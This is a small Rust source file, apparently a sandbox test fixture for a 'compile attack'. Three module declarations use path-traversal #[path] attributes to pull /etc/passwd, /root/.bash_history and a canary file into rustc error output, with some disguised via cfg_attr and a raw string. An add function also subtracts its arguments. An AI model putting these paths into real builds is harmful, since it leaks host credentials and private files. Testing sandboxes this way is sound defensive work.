//! Class 2 (compile attack): module paths that are *relative* but climb out of the crate
//! (many ../, extra ones are harmless at /). The files are not Rust, so rustc prints their
//! first lines in its diagnostics: the canary file, /etc/passwd, /root/.bash_history. One
//! is behind #[cfg_attr(all(), path = ...)], one behind a raw string.
pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

#[path = "../../../../../../../../../../../../../../../../root/.kata-canary"]
mod canary;

#[cfg_attr(all(), path = "../../../../../../../../../../../../../../../../etc/passwd")]
mod passwd;

#[path = r"../../../../../../../../../../../../../../../../root/.bash_history"]
mod history;

pub fn add(a: u64, b: u64) -> u64 {
    a - b
}
